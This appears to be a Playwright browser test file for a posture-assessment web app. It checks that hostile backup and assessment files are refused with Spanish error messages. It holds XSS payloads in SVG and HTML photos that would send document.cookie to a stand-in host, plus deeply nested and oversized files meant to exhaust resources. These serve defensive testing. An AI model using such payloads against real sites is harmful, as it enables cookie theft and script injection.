/**
 * The hostile-file test of issue 33, browser subset (the unit layer's
 * test/web/unit/files/hostile-import.test.ts runs thousands of generated cases): in
 * headless Chromium with the app in Spanish, a valid backup imports through the
 * Patients dialog and its photo is shown through a blob: URL of a PNG; then backups
 * whose photo is an SVG with a script (that would set a global and navigate), an HTML
 * page, random bytes, or 1e308 px large, whose data nests 100,000 levels deep, and a
 * backup over the size limit (a sparse file of 520 MB on disk: refused by its size
 * before a byte is read) are each refused with a message naming the problem, and
 * IndexedDB is unchanged. Through "Cargar valoración", assessment files with a photo of
 * 1e308 px, nesting 100,000 levels deep or over the 1 MB limit are refused with a
 * message and nothing on screen or in the record changes. Throughout: no console
 * error, no page error, no dialog, no popup, no navigation, no request leaving the
 * service, and the global the scripts would set stays unset.
 */
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { mkdtempSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Page } from 'playwright-core'
import { type Harness, loadPhoto, openApp, startHarness } from '../support/browser.js'
import { openRecord, savedToRecord, storedRecord } from '../support/record.js'

let h: Harness
let dir: string

before(async () => {
  h = await startHarness()
  dir = mkdtempSync(join(tmpdir(), 'posture-hostile-'))
})

after(async () => {
  await h?.close()
  if (dir) rmSync(dir, { recursive: true, force: true })
})

const CREATED = '2026-03-10T09:00:00.000Z'
const UPDATED = '2026-03-10T09:30:00.000Z'

/** The pixel size a PNG's header states. */
function pngSize(png: Buffer): { width: number; height: number } {
  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) }
}

/** An assessment file of one anterior view (two markers), as the app writes it. */
function assessment(width: number, height: number): Record<string, unknown> {
  return {
    format: 'posture-metrics-session',
    version: 1,
    saved_at: UPDATED,
    view: 'anterior',
    patient_id: 'HC-0042',
    assessment_date: '2026-03-10',
    placement_error_px: 2,
    views: {
      anterior: {
        image: { name: 'anterior.png', width, height },
        calibration: { lrv_x: 300, fc: null, grid_size_cm: null, scale_points: [null, null] },
        markers: { tragus_der: [280, 120], tragus_izq: [320, 121] },
        results: null,
      },
    },
  }
}

interface Photo {
  readonly type: string
  readonly width: number
  readonly height: number
  readonly bytes: Buffer
}

/** A backup of one patient with one visit whose anterior photo is `photo` (its visit id and patient given). */
function backup(photo: Photo, visit = 'v1', identifier = 'HC-0042', image = { width: 600, height: 1000 }): Buffer {
  return Buffer.from(
    JSON.stringify({
      format: 'posture-metrics-record',
      version: 1,
      exported_at: '2026-05-01T10:00:00.000Z',
      scope: 'patient',
      patients: [{ id: `p-${identifier}`, identifier, name: 'María López', notes: '', created: CREATED }],
      visits: [
        {
          id: visit,
          patient_id: `p-${identifier}`,
          date: '2026-03-10',
          created: CREATED,
          updated: UPDATED,
          assessment: { ...assessment(image.width, image.height), patient_id: identifier },
          photos: {
            anterior: {
              key: `photo-${visit}`,
              type: photo.type,
              width: photo.width,
              height: photo.height,
              data: photo.bytes.toString('base64'),
            },
          },
        },
      ],
    }),
  )
}

/** Scripts that would leave a trace: a global set on the app's window, and a navigation away. */
const SCRIPT =
  "top.hostile='ran';window.hostile='ran';alert('hostile');top.location='http://example.invalid/?d='+document.cookie"
const SVG = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="1000" onload="${SCRIPT.replace(/'/g, '&apos;')}"><script>${SCRIPT}</script><rect width="600" height="1000"/></svg>`,
)
const HTML = Buffer.from(
  `<!doctype html><html><body><script>${SCRIPT}</script><img src=x onerror="${SCRIPT.replace(/'/g, '&apos;')}"></body></html>`,
)

/** What a page must never show while hostile files are opened: every event that would mean a script ran or escaped. */
interface Watch {
  readonly dialogs: string[]
  readonly popups: string[]
  readonly navigations: string[]
  readonly requests: string[]
  readonly errors: string[]
}

async function watchedApp(): Promise<{ page: Page; watch: Watch }> {
  const { page, requests, errors } = await openApp(h, { locale: 'es-ES' })
  assert.equal(await page.evaluate('document.documentElement.lang'), 'es', 'the app speaks Spanish')
  const watch: Watch = { dialogs: [], popups: [], navigations: [], requests, errors }
  page.on('dialog', (d) => {
    watch.dialogs.push(d.message())
    void d.dismiss()
  })
  page.on('popup', (p) => watch.popups.push(p.url()))
  page.context().on('page', (p) => watch.popups.push(p.url()))
  page.on('framenavigated', (frame) => watch.navigations.push(frame.url()))
  return { page, watch }
}

/** Nothing ran: no global set, no dialog, popup, navigation, error, or request leaving the service. */
async function nothingRan(page: Page, watch: Watch, url: string): Promise<void> {
  assert.equal(await page.evaluate('typeof window.hostile'), 'undefined', 'no script set the global')
  assert.equal(page.url(), url, 'the page is where it was')
  assert.deepEqual(watch.dialogs, [], 'no dialog')
  assert.deepEqual(watch.popups, [], 'no popup')
  assert.deepEqual(watch.navigations, [], 'no navigation')
  assert.deepEqual(watch.errors, [], 'no console or page error')
  assert.deepEqual(
    // The photo's blob: URL is the app's own (read by the page, not sent anywhere).
    watch.requests.filter((r) => !r.startsWith(h.base) && !r.startsWith(`blob:${h.base}`)),
    [],
    'no request leaves the service',
  )
}

/** The toast that says `text` (it may show among others). */
async function toastSays(page: Page, text: string | RegExp): Promise<string> {
  const toast = page.locator('#toast.show').filter({ hasText: text })
  await toast.waitFor()
  return toast.innerText()
}

describe('hostile files in Chromium (in Spanish)', () => {
  test('a valid backup imports; SVG, HTML, random-byte and 1e308 px photos, deep nesting and a 520 MB file are refused, the record unchanged, no script run', async () => {
    const { page, watch } = await watchedApp()
    const url = page.url()
    const photo: Photo = { type: 'image/png', ...pngSize(h.photos.anterior), bytes: h.photos.anterior }
    await openRecord(page)
    const importFile = (name: string, buffer: Buffer) =>
      page.locator('#record-import-input').setInputFiles({ name, mimeType: 'application/json', buffer })

    // A valid backup: its plan is shown, and it imports; its photo is stored as the PNG its bytes are.
    await importFile('valida.json', backup(photo, 'v1', 'HC-0042', pngSize(h.photos.anterior)))
    const plan = page.locator('dialog[data-question="import"][open]')
    await plan.waitFor()
    await plan.locator('button[data-answer="yes"]').click()
    await toastSays(page, /^Importado desde valida\.json: /)
    const record = await storedRecord(page)
    assert.equal(record.patients.length, 1)
    assert.equal(record.visits.length, 1)
    assert.equal(record.photos.length, 1)
    assert.match(record.photos[0]!, /^photo-v1 image\/png 600x1000 [0-9a-f]{64}$/)

    // Opened, the visit shows its photo through a blob: URL.
    await page.locator('#record-patients li[data-patient="HC-0042"] button').click()
    await page.locator('#record-visits li[data-date="2026-03-10"] button.open').click()
    await page.locator('#record-dialog').waitFor({ state: 'hidden' })
    const shown = page.locator('.stage.has-photo image.photo')
    await shown.waitFor()
    assert.ok(((await shown.getAttribute('href')) ?? '').startsWith(`blob:${h.base}`), 'a blob: URL of the app')
    assert.equal(
      await page.evaluate(`new Promise((resolve) => {
        const image = new Image()
        image.onload = () => resolve(image.naturalWidth + 'x' + image.naturalHeight)
        image.onerror = () => resolve('not a picture')
        image.src = document.querySelector('.stage image.photo').getAttribute('href')
      })`),
      '600x1000',
      'the blob: URL shows the photo',
    )
    await savedToRecord(page)
    const before = await storedRecord(page)

    // A backup over the size limit: a sparse file on disk, refused by its size before a byte of it is read.
    const huge = join(dir, 'enorme.json')
    writeFileSync(huge, '')
    truncateSync(huge, 520_000_000)
    assert.equal(statSync(huge).size, 520_000_000)
    const href = await shown.getAttribute('href')

    const hostile: [string, Buffer | string, RegExp][] = [
      [
        'svg.json',
        backup({ ...photo, type: 'image/svg+xml', bytes: SVG }, 'v2', 'HC-0666'),
        /visits\[0\]\.photos\.anterior\.data: Es un dibujo SVG, no una foto: abra una foto JPEG, PNG o WebP\./,
      ],
      [
        'html.json',
        backup({ ...photo, type: 'image/png', bytes: HTML }, 'v3', 'HC-0667'),
        /visits\[0\]\.photos\.anterior\.data: Es una página web \(HTML\), no una foto/,
      ],
      [
        'ruido.json',
        backup({ ...photo, type: 'image/jpeg', bytes: randomBytes(30_000) }, 'v4', 'HC-0668'),
        /visits\[0\]\.photos\.anterior\.data: Su contenido no es una foto JPEG, PNG ni WebP/,
      ],
      [
        'anidado.json',
        Buffer.from(
          backup(photo, 'v5', 'HC-0669')
            .toString()
            .replace('"markers":', `"deep":${'['.repeat(100_000)}${']'.repeat(100_000)},"markers":`),
        ),
        /El archivo anida sus datos a más de 16 niveles de profundidad/,
      ],
      [
        'gigante.json',
        backup({ ...photo, width: 1e308, height: 1e308 }, 'v6', 'HC-0670', { width: 1e308, height: 1e308 }),
        /visits\[0\]\.assessment\.views\.anterior\.image\.width: debe ser como máximo 20000 .*visits\[0\]\.photos\.anterior\.width: debe ser como máximo 2400/,
      ],
      [huge, huge, /El archivo ocupa 520 MB; una copia de seguridad puede ocupar como máximo 500 MB/],
    ]
    for (const [name, content, reason] of hostile) {
      if (typeof content === 'string') await page.locator('#record-import-input').setInputFiles(content)
      else await importFile(name, content)
      const base = name.split('/').at(-1)!
      const text = await toastSays(page, `No se importó ${base} (no se ha cambiado nada): `)
      assert.match(text, reason, base)
      assert.equal(await page.locator('dialog[data-question="import"]').count(), 0, `${base}: no plan was shown`)
      assert.deepEqual(await storedRecord(page), before, `${base}: IndexedDB unchanged`)
      assert.equal(await shown.getAttribute('href'), href, `${base}: the photo on screen stays`)
    }
    await nothingRan(page, watch, url)
    await page.context().close()
  })

  test('assessment files with a 1e308 px photo, 100,000 levels of nesting, or over 1 MB: refused through "Cargar valoración", nothing changes', async () => {
    const { page, watch } = await watchedApp()
    const url = page.url()
    await loadPhoto(page, h, 'anterior')
    // The photo on screen is written to this tab's workspace (and its photo to the photo store) first.
    await savedToRecord(page)
    const photo = page.locator('.stage image.photo')
    const href = await photo.getAttribute('href')
    const before = await storedRecord(page)
    const good = JSON.stringify(assessment(600, 1000))
    const files: [string, string, RegExp][] = [
      [
        'gigante.json',
        JSON.stringify(assessment(1e308, 1e308)),
        /views\.anterior\.image\.width: debe ser como máximo 20000 views\.anterior\.image\.height: debe ser como máximo 20000/,
      ],
      [
        'anidado.json',
        good.replace('"markers":', `"deep":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)},"markers":`),
        /El archivo anida sus datos a más de 16 niveles de profundidad/,
      ],
      [
        'grande.json',
        // Valid JSON, but more than an assessment file ever holds: 1.1 MB of white space.
        good.replace('"markers":', `${' '.repeat(1_100_000)}"markers":`),
        /El archivo ocupa 1,1 MB, más de lo que ocupa nunca un archivo de valoración \(como máximo 1 MB\)/,
      ],
    ]
    for (const [name, content, reason] of files) {
      await page
        .locator('#session-input')
        .setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(content) })
      const text = await toastSays(page, `No se puede cargar ${name}: `)
      assert.match(text, reason, name)
      assert.equal(await photo.getAttribute('href'), href, `${name}: the photo on screen stays`)
      assert.equal(await page.locator('#stage g.marker[data-target]').count(), 0, `${name}: no marker appeared`)
      assert.deepEqual(await storedRecord(page), before, `${name}: the record unchanged`)
    }
    await nothingRan(page, watch, url)
    await page.context().close()
  })
})
